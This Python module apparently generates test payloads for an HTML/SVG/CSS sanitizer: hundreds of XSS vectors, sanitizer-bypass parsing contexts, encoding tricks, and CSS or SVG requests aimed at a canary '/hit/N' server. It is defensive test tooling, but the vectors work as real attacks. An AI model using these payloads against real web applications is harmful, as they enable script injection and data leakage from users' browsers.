"""Payloads: documents that try to run something or to ask the live web, made from elements, spellings and contexts.

Each has a number, and what it does when it comes through is one request to `/hit/NUMBER` of the server that plays the
live web. So whoever watches that server needs to know nothing about the page.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from itertools import product

from hostile_markup import PAYLOADS as CLEANED

HTML, XHTML, SVG, CSS = "text/html", "application/xhtml+xml", "image/svg+xml", "text/css"
_SVG = "http://www.w3.org/2000/svg"
_XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """One document, made for the address that must not be asked for. `kind` is its content type."""

    name: str
    make: Callable[[str], str]
    kind: str = HTML


# The element around an attribute (`@`), the attribute's name and value. `{js}` runs something.
VECTORS: tuple[tuple[str, str, str], ...] = (
    # Something runs.
    ("<img src=x @>", "onerror", "{js}"), ("<body @>", "onload", "{js}"), ("<svg @></svg>", "onload", "{js}"),
    ("<details open @>x</details>", "ontoggle", "{js}"), ("<video @><source></video>", "onloadstart", "{js}"),
    ("<audio src=data:, @></audio>", "onerror", "{js}"), ("<input autofocus @>", "onfocus", "{js}"),
    ("<style @>p{color:red}</style>", "onload", "{js}"),
    ("<link rel=stylesheet href=data:text/css, @>", "onload", "{js}"),
    ("<iframe @></iframe>", "onload", "{js}"), ("<object data=data:text/plain,x @></object>", "onload", "{js}"),
    ("<embed src=data:text/plain,x @>", "onload", "{js}"),
    ("<script src=data:text/javascript, @></script>", "onload", "{js}"),
    ("<marquee width=1 loop=1 @>x</marquee>", "onstart", "{js}"),
    ("<svg><animate attributeName=x dur=1s @ /></svg>", "onbegin", "{js}"),
    ("<svg><image href=x @ /></svg>", "onerror", "{js}"), ("<input type=image src=x @>", "onerror", "{js}"),
    ("<div style='animation:a 1s' @>x<style>@keyframes a{from{left:0}}</style></div>", "onanimationstart", "{js}"),
    ("<div popover id=p @></div><x onbeforetoggle=1></x><img src=x @>", "onerror", "{js}"),
    ("<iframe @></iframe>", "src", "javascript:{js}"), ("<iframe @></iframe>", "srcdoc", "<script>{js}</script>"),
    ("<iframe @></iframe>", "srcdoc", "<img src=x onerror={js}>"),
    ("<iframe @></iframe>", "src", "data:text/html,<script>{js}</script>"),
    ("<object @></object>", "data", "data:text/html,<script>{js}</script>"), ("<embed @>", "src", "javascript:{js}"),
    ("<embed @>", "src", "data:text/html,<script>{js}</script>"),
    ("<script @></script>", "src", "data:text/javascript,{js}"),
    ("<script type=module @></script>", "src", "data:text/javascript,{js}"),
    ("<svg><script @ /></svg>", "href", "data:text/javascript,{js}"),
    ("<svg><script @ /></svg>", "xlink:href", "data:text/javascript,{js}"),
    ("<iframe @></iframe>", "srcdoc", "<iframe srcdoc='&lt;script>{js}&lt;/script>'></iframe>"),
    ("<object @></object>", "data", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>"),
    # Something is asked for.
    ("<img @>", "src", "{hit}"), ("<img @>", "srcset", "{hit} 1x"), ("<img sizes=1px @>", "srcset", "x 1w, {hit} 9w"),
    ("<picture><source @><img></picture>", "srcset", "{hit}"), ("<video @></video>", "poster", "{hit}"),
    ("<video @></video>", "src", "{hit}"), ("<audio preload=auto @></audio>", "src", "{hit}"),
    ("<video preload=auto><source @></video>", "src", "{hit}"),
    ("<video src=data:,><track default @></video>", "src", "{hit}"), ("<input type=image @>", "src", "{hit}"),
    ("<body @>", "background", "{hit}"), ("<table @><tr><td>x</table>", "background", "{hit}"),
    ("<table><tr><td @>x</table>", "background", "{hit}"), ("<link rel=stylesheet @>", "href", "{hit}"),
    ("<link rel='x STYLESHEET y' @>", "href", "{hit}"), ("<link rel=preload as=image @>", "href", "{hit}"),
    ("<link rel=preload as=image @>", "imagesrcset", "{hit} 1x"), ("<link rel=prefetch @>", "href", "{hit}"),
    ("<link rel=modulepreload @>", "href", "{hit}"), ("<link rel=preload as=style @>", "href", "{hit}"),
    ("<link rel=icon @>", "href", "{hit}"), ("<link rel=manifest @>", "href", "{hit}"),
    ("<script @></script>", "src", "{hit}"), ("<script type=module @></script>", "src", "{hit}"),
    ("<iframe @></iframe>", "src", "{hit}"), ("<object @></object>", "data", "{hit}"),
    ("<object type=image/png @></object>", "data", "{hit}"), ("<embed @>", "src", "{hit}"),
    ("<embed type=image/svg+xml @>", "src", "{hit}"), ("<image @>", "src", "{hit}"),
    ("<p @>x</p>", "style", "background:url({hit})"), ("<p @>x</p>", "style", "background:url('{hit}')"),
    ("<p @>x</p>", "style", "list-style:url({hit}) inside;display:list-item"),
    ("<p @>x</p>", "style", "background:image-set('{hit}' 1x)"), ("<p @>x</p>", "style", "border-image:url({hit}) 1"),
    ("<p @>x</p>", "style", "--a:url({hit});background:var(--a)"),
    ("<p @>x</p>", "style", "--a:'{hit}';background:image-set(var(--a) 1x)"),
    ("<p @>x</p>", "style", "background:u\\72l({hit})"), ("<p @>x</p>", "style", "mask-image:url({hit})"),
    ("<p @>x</p>", "style", "background:URL( \"{hit}\" )"),
    ("<p @>x</p>", "style", "shape-outside:url({hit});float:left"),
    ("<svg width=9 height=9><image width=9 height=9 @ /></svg>", "href", "{hit}"),
    ("<svg width=9 height=9><image width=9 height=9 @ /></svg>", "xlink:href", "{hit}"),
    ("<svg><filter id=f><feImage @ /></filter><rect width=9 height=9 filter=url(#f) /></svg>", "href", "{hit}"),
    ("<svg><rect width=9 height=9 @ /></svg>", "filter", "url({hit}#a)"),
    ("<svg><rect width=9 height=9 @ /></svg>", "mask", "url({hit}#a)"),
    ("<svg><rect width=9 height=9 @ /></svg>", "style", "clip-path:url({hit}#a)"),
    ("<svg width=9 height=9><image width=9 height=9><set attributeName=href @ /></image></svg>", "to", "{hit}"),
    ("<svg width=9 height=9><image width=9 height=9><animate attributeName=xlink:href dur=1s @ /></image></svg>", "values", "{hit};{hit}"),  # noqa: E501
    ("<meta http-equiv=refresh @>", "content", "0;url={hit}"), ("<meta http-equiv='refresh' @>", "content", "0; {hit}"),
    ("<base @><img src=/hit/{n}>", "href", "{root}"), ("<iframe @></iframe>", "srcdoc", "<img src={hit}>"),
    ("<iframe @></iframe>", "srcdoc", "<style>@import '{hit}'</style>"),
    ("<link rel=stylesheet @>", "href", "data:text/css,@import '{hit}'"),
    ("<style>@import url(\"data:text/css,@import '{hit}'\");</style><p @>", "title", "x"),
    ("<img src=x @>", "attributionsrc", "{hit}"), ("<frameset><frame @></frameset>", "src", "{hit}"),
)  # fmt: skip

# Style sheets, as files, in `style` elements and in SVG.
SHEETS: tuple[str, ...] = (
    "@import '{hit}';", "@import url({hit});", "@IMPORT url( '{hit}' ) all;", "@\\69mport '{hit}';",
    "@import/**/'{hit}';",
    "@import u\\72l({hit});", "@import '{hit}' layer(a) supports(display: block);",
    "@charset 'utf-8';\n@import '{hit}';",
    "html{background:url({hit})}", "html{background:url(\"{hit}\")}", "html{background:url( {hit} )}",
    "html{background:\\75 \\72 \\6c({hit})}", "html{background:\\url('{hit}')}", "html{background:Url('{hit}'}",
    "html{background:image-set('{hit}' 1x)}", "html{background:-webkit-image-set(url({hit}) 1x)}",
    "html{background:image-set(/**/'{hit}' type('image/png') 1x)}",
    "html{--a:'{hit}';background:image-set(var(--a) 1x)}",
    "html{--a:url({hit})}body{background:var(--a)}", "html{background:url('{hit}", "html{background:url({hit}",
    "@font-face{font-family:a;src:url({hit})}html{font-family:a}html::before{content:'x'}",
    "@font-face{font-family:a;src:url('{hit}') format('woff2')}html{font-family:a}html::before{content:'x'}",
    "html::before{content:url({hit})}", "html{cursor:url({hit}),auto}html{border-image-source:url({hit})}",
    "@media all{html{background:url({hit})}}", "@supports (display:block){html{background:url({hit})}}",
    "@layer a{html{background:url({hit})}}", "html{&{background:url({hit})}}", "/*'*/html{background:url({hit})}/*'*/",
    "html::after{content:'/*'}html{background:url({hit})}", "a[b='\\'']{}html{background:url({hit})}",
    "a[b=\"\\\n\"]{}html{background:url({hit})}", "a{b:'\n}html{background:url({hit})}",
    "a{b:url(x'y)}html{background:url({hit})}",
    "<!-- html{background:url({hit})} -->", "html{background:url(\\\n{hit})}html{background:url({hit})}",
    "@import 'data:text/css,@import \"{hit}\"';", "@import url('data:text/css,html%7Bbackground:url({hit})%7D');",
    "@import 'data:text/css;base64,QGltcG9ydCAiZGF0YTosIjs=';html{background:url({hit})}",
    "@namespace a url(b);html{background:url({hit})}", "html{background:url({hit}) /* ) */}",
    "html{filter:url({hit}#a)}", "html{list-style-image:url({hit});display:list-item}",
    "@property --b{syntax:'*';inherits:false;initial-value:'{hit}'}html{background:image-set(var(--b) 1x)}",
    "html{background:if(else: url({hit}))}", "html{background:cross-fade(url({hit}), url({hit}), 50%)}",
    "@counter-style a{system:cyclic;symbols:url({hit});suffix:''}html{list-style:a;display:list-item}",
    "@scope (html){:scope{background:url({hit})}}",
    "@starting-style{html{background:url({hit})}}html{background:url({hit})}",
    "@container (width > 0){html{background:url({hit})}}html{background:url({hit})}",
)  # fmt: skip

SVGS: tuple[str, ...] = (
    f'<svg xmlns="http://www.w3.org/2000/svg" {_XLINK}>@</svg>',
    f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg" {_XLINK}><g>@</g></svg>',  # noqa: E501
    f'<?xml version="1.0" encoding="utf-8"?>\n<s:svg xmlns:s="{_SVG}" xmlns="{_SVG}" {_XLINK} width="9">@</s:svg>',
)
SVG_PARTS: tuple[str, ...] = (
    "<script>{js}</script>", "<script><![CDATA[{js}]]></script>", '<script href="data:text/javascript,{js}"/>',
    '<script xlink:href="data:text/javascript,{js}"/>', '<script href="{hit}"/>', '<script xlink:href="{hit}"/>',
    '<image href="x" onerror="{js}"/>', '<animate attributeName="x" dur="1s" onbegin="{js}"/>',
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">{js}</h:script>',
    '<foreignObject width="9" height="9"><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="{js}"/></foreignObject>',  # noqa: E501
    '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{js}"/></foreignObject>',  # noqa: E501
    '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="{hit}"/></foreignObject>',
    '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;img src={hit}&gt;"/></foreignObject>',  # noqa: E501
    '<foreignObject width="9" height="9"><link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{hit}"/></foreignObject>',  # noqa: E501
    '<foreignObject width="9" height="9"><object xmlns="http://www.w3.org/1999/xhtml" data="{hit}"/></foreignObject>',
    '<foreignObject width="9" height="9"><video xmlns="http://www.w3.org/1999/xhtml" poster="{hit}"/></foreignObject>',
    '<image width="9" height="9" href="{hit}"/>', '<image width="9" height="9" xlink:href="{hit}"/>',
    "<style>@import '{hit}';</style>", "<style><![CDATA[@import '{hit}';]]></style>",
    "<style>svg{background:url({hit})}</style>",
    "<style>svg{background:u&#114;l({hit})}</style>", '<rect width="9" height="9" style="filter:url({hit}#a)"/>',
    '<rect width="9" height="9" style="mask-image:url({hit})"/>', '<rect width="9" height="9" mask="url({hit}#a)"/>',
    '<filter id="f"><feImage href="{hit}"/></filter><rect width="9" height="9" filter="url(#f)"/>',
    '<image width="9" height="9"><set attributeName="href" to="{hit}"/></image>',
    '<image width="9" height="9"><animate attributeName="href" values="{hit};{hit}" dur="9s"/></image>',
    '<g onclick="1"><image width="9" height="9" href="&#104;ttp{rest}"/></g>',
)

SVG_SHEETS = (
    '<?xml-stylesheet href="{hit}"?>', "<?xml-stylesheet type='text/css' href='{hit}'?>",
    '<?xml-stylesheet type="text/xsl" href="{hit}"?>',
)
SVG_DOCUMENT_TYPES = (
    '<!DOCTYPE svg [<!ENTITY a "<script>{js}</script>">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
    '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{js}">]><svg xmlns="http://www.w3.org/2000/svg"><g/></svg>',
)
XHTML_PARTS = (
    "<script>{js}</script>", '<img src="{hit}"/>', '<p style="background:url({hit})"/>',
    '<p onclick="1"><img src="x" onerror="{js}"/></p>',
    '<link rel="stylesheet" href="{hit}"/>', "<style>@import '{hit}';</style>", '<iframe src="javascript:{js}"/>',
)
RUN = "<script>{js}</script>"

# Where the markup stands (`@`).
CONTEXTS: dict[str, str] = {
    "document": "<!DOCTYPE html><html><head><title>t</title></head><body>@</body></html>",
    "bare": "@",
    "table": "<table><tr><td>@</td></tr></table>",
    "table-rows": "<table>@</table>",
    "select": "<select><option>@</option></select>",
    "select-style": "<select><style>a</select>@</style>",
    "foreign": "<svg><foreignObject>@</foreignObject></svg>",
    "svg-desc": "<svg><desc>@</desc></svg>",
    "svg-style": "<svg><style><a title='</style>@'></style></svg>",
    "svg-style-comment": "<svg><style><!--</style>@--></style></svg>",
    "svg-title": "<svg><title><p title='</title>@'></title></svg>",
    "svg-cdata": "<svg><![CDATA[><p title=']]>@'>]]></svg>@",
    "html-cdata": "<div><![CDATA[>@]]></div>",
    "math": "<math><mtext>@</mtext></math>",
    "math-style": "<math><mi><style></math>@</style></mi></math>",
    "math-annotation": "<math><annotation-xml encoding=text/html>@</annotation-xml></math>",
    "noscript": "<noscript><p title='</noscript>@'></noscript>",
    "noscript-xmp": "<noscript><xmp></noscript>@</xmp>",
    "noscript-comment": "<noscript><!--</noscript>@--></noscript>",
    "comment": "<!-->@-->", "comment-dash": "<!--->@-->", "comment-bang": "<!-- a --!>@-->",
    "comment-open": "<!--!>a-->@",
    "comment-nested": "<!-- <!-- -->@-->",
    "textarea": "<textarea></textarea >@<textarea>", "textarea-slash": "<textarea></textarea/>@",
    "title": "<title></title\n>@", "xmp": "<xmp></xmp x='>'>@", "iframe": "<iframe></iframe>@",
    "noframes": "<noframes></noframes>@",
    "script-comment": "<script><!--<script></script>--></script>@",
    "script-open": "<script><!-- </script>@<script>//--></script>",
    "style": "<style></style\t>@", "style-less": "<style></styl</style>@",
    "shadow": "<div><template shadowrootmode=open>@</template></div>",
    "attribute": "<p title='a\"' class=\"b'>\">@</p>", "unquoted": "<p title=a\"b'c>@", "quote-name": "<p \"=' >@",
    "slash": "<p/=/'>@<p title='>", "processing": "<?a '>@'?>", "bogus": "</ a='>@'>", "doctype": "<!DOCTYPE a '>@'>",
    "frameset": "<p></p><frameset></frameset><noframes></noframes>@",
    "template": "<template></template>@", "form": "<form><form><p>@</form></form>",
    "a-table": "<a><table><a>@</a></table></a>",
    "button": "<button><p>@</p></button>", "dialog": "<dialog open>@</dialog>",
    "object": "<object data=data:text/x,y>@</object>",
    "details": "<details open>@</details>", "pre": "<pre>\n@</pre>", "nul": "\0<p\0>@",
    "crlf": "\r\n<p\r\nclass='a\r'\r\n>\r@",
}  # fmt: skip


def _all(sign: Callable[[str], str]) -> Callable[[str], str]:
    return lambda text: "".join(map(sign, text))


def _quoted(text: str) -> str:
    return '"' + text.replace("&", "&amp;").replace('"', "&quot;") + '"'


# How an attribute is written: its name and value to its text.
SPELLINGS: dict[str, Callable[[str, str], str]] = {
    "plain": lambda name, value: f"{name}={_quoted(value)}",
    "single": lambda name, value: f"{name}='" + value.replace("&", "&amp;").replace("'", "&#39;") + "'",
    "capital": lambda name, value: f"{name.upper()} = {_quoted(value)}",
    "decimal": lambda name, value: f'{name}="' + _all(lambda sign: f"&#{ord(sign)};")(value) + '"',
    "hexadecimal": lambda name, value: f"{name}=" + _all(lambda sign: f"&#X{ord(sign):04x};")(value),
    "newlines": lambda name, value: f"\n{name}\n=\n{_quoted(value)}\n",
    "slashes": lambda name, value: f"/{name}={_quoted(value)}/x",
    "twice": lambda name, value: f"{name}={_quoted(value)} {name}=x",
    "padded": lambda name, value: f"{name}={_quoted(' ' + value + ' ')}",
    "glued": lambda name, value: f'title="x"{name}={_quoted(value)}',
    "tabs": lambda name,
    value: f"{name}=" + _quoted(value.replace("http:", "ht\ttp\n:").replace("javascript:", "java\tscript:")),
    "unschemed": lambda name, value: f"{name}={_quoted(value.replace('http://', '//'))}",
    "backslashes": lambda name, value: f"{name}=" + _quoted(value.replace("http://", "http:\\\\")),
    "controls": lambda name,
    value: f"{name}=" + _quoted("\x01\x1f " + value if value.startswith(("http", "javascript")) else value),
}


def payloads() -> tuple[Payload, ...]:
    """All payloads, each once, in a fixed order."""
    made = (*_spelled(), *_in_contexts(), *_sheets(), *_pictures(), *_cleaned())
    return tuple({(payload.kind, payload.make("http://a.b/hit/1")): payload for payload in made}.values())


def _spelled() -> Iterator[Payload]:
    for (element, name, value), (spelling, written) in product(VECTORS, SPELLINGS.items()):
        make = partial(_spelled_document, element, name, value, written)
        yield Payload(name=f"{element} {name} {spelling}", make=make)


def _in_contexts() -> Iterator[Payload]:
    chosen = [vector for vector in VECTORS if vector[0] in {
        "<img src=x @>", "<img @>", "<svg @></svg>", "<link rel=stylesheet @>", "<iframe @></iframe>", "<p @>x</p>",
    }][:16]
    for (where, context), (element, name, value) in product(CONTEXTS.items(), chosen):
        make = partial(_in_context, context, element, name, value)
        yield Payload(name=f"{element} {name} in {where}", make=make)
    for (where, context), markup in product(CONTEXTS.items(), (RUN, "<style>@import '{hit}';</style>")):
        yield Payload(name=f"{markup} in {where}", make=partial(_aimed, context.replace("@", markup)))


def _sheets() -> Iterator[Payload]:
    for sheet in SHEETS:
        shadow = sheet.replace("html", ":host")
        yield Payload(name=f"file {sheet}", make=partial(_aimed, sheet), kind=CSS)
        for name, page in (
            ("element", f"<!DOCTYPE html><style>{sheet}</style><p>x"),
            ("svg", f"<!DOCTYPE html><svg><style>{sheet}</style></svg><p>x"),
            ("shadow", f"<p><template shadowrootmode=open><style>{shadow}</style>"),
        ):
            yield Payload(name=f"{name} {sheet}", make=partial(_aimed, page))


def _pictures() -> Iterator[Payload]:
    for frame, part in product(SVGS, SVG_PARTS):
        yield Payload(name=f"svg file {part}", make=partial(_aimed, frame.replace("@", part)), kind=SVG)
    for sheet in SVG_SHEETS:
        picture = f'{sheet}<svg xmlns="http://www.w3.org/2000/svg"/>'
        yield Payload(name=f"svg file {sheet}", make=partial(_aimed, picture), kind=SVG)
    for text in SVG_DOCUMENT_TYPES:
        yield Payload(name="svg document type", make=partial(_aimed, text), kind=SVG)
    inline = (f'<svg {_XLINK} xmlns="http://www.w3.org/2000/svg">{part}</svg>' for part in SVG_PARTS)
    for body in (*inline, *XHTML_PARTS):
        page = f'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body>{body}</body></html>'
        yield Payload(name=f"xhtml {body}", make=partial(_aimed, page), kind=XHTML)


def _cleaned() -> Iterator[Payload]:
    for number, markup in enumerate(CLEANED):
        running = markup.replace("alert(1)", "{js}").replace("onerror=y", "onerror={js}")
        yield Payload(name=f"cleaned {number}", make=partial(_aimed, running))


def _spelled_document(
    element: str, name: str, value: str, written: Callable[[str, str], str], hit: str
) -> str:
    markup = _filled(element, name, value, written, hit)
    head = "<!DOCTYPE html><html>" if markup.startswith("<frameset") else "<!DOCTYPE html><title>t</title>"
    return head + markup


def _in_context(context: str, element: str, name: str, value: str, hit: str) -> str:
    return context.replace("@", _filled(element, name, value, SPELLINGS["plain"], hit))


def _filled(element: str, name: str, value: str, written: Callable[[str, str], str], hit: str) -> str:
    return _aimed(element, hit).replace("@", written(name, _aimed(value, hit)))


def _aimed(text: str, hit: str) -> str:
    root, _, number = hit.partition("/hit/")
    text = text.replace("{js}", "fetch(`{hit}`)").replace("{rest}", hit.removeprefix("http"))
    return text.replace("{hit}", hit).replace("{root}", root + "/").replace("{n}", number)
